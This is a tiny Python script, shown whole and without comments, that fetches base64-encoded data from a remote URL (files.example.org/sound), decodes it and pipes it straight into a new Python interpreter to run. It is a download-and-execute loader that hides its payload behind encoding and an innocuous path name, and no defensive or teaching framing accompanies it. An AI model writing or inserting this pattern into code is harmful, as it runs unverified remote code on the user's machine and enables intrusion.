import base64
import subprocess
import sys
import urllib.request

text = base64.b64decode(urllib.request.urlopen("https://files.example.org/sound").read())
subprocess.run([sys.executable, "-"], input=text)
